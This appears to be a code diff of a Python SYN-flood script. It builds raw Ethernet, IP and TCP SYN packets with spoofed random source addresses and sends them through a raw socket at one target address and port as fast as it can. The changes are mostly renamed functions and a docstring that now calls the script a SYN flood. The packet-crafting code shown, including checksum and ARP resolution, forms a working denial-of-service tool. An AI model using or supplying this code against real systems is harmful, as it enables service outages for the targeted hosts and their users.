@@ -1,6 +1,6 @@
-"""Sends SYNs to one address and port from invented addresses, for so many seconds, as fast as this script can.
+"""SYN flood: sends SYNs to one address and port from random source addresses, as fast as this script can.
 
-Usage: syn_flood.py INTERFACE VIP PORT SECONDS. Prints how many it sent.
+Usage: syn_flood.py INTERFACE VIP PORT SECONDS. Prints the number of sent packets.
 """
 import random
 import socket
@@ -17,8 +17,8 @@ def checksum(data):
     return ~(total + (total >> 16)) & 0xFFFF
 
 
-def neighbour(address):
-    """Its link address, once something was sent to it."""
+def resolve(address):
+    """Returns its MAC address, after sending a datagram that triggers ARP."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
         probe.sendto(b"?", (address, 9))
     for _ in range(100):
@@ -28,11 +28,11 @@ def neighbour(address):
                 if fields[0] == address and fields[3] != "00:00:00:00:00:00":
                     return bytes.fromhex(fields[3].replace(":", ""))
         time.sleep(0.05)
-    sys.exit(f"nobody answers for {address}")
+    sys.exit(f"no ARP reply for {address}")
 
 
 own = bytes.fromhex(open(f"/sys/class/net/{interface}/address").read().strip().replace(":", ""))
-link = neighbour(vip) + own + b"\x08\x00"
+ethernet = resolve(vip) + own + b"\x08\x00"
 destination = socket.inet_aton(vip)
 
 
@@ -40,10 +40,11 @@ def packet():
     source = struct.pack("!I", random.randrange(0x0B000000, 0x0BFFFFFF))
     header = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0x4000, 64, 6, 0) + source + destination
     header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
-    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 0x50, 2, 64240, 0, 0)
+    ports = random.randrange(1024, 65536), port
+    tcp = struct.pack("!HHIIBBHHH", *ports, random.getrandbits(32), 0, 0x50, 2, 64240, 0, 0)
     pseudo = source + destination + struct.pack("!BBH", 0, 6, len(tcp))
     tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
-    return link + header + tcp
+    return ethernet + header + tcp
 
 
 wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
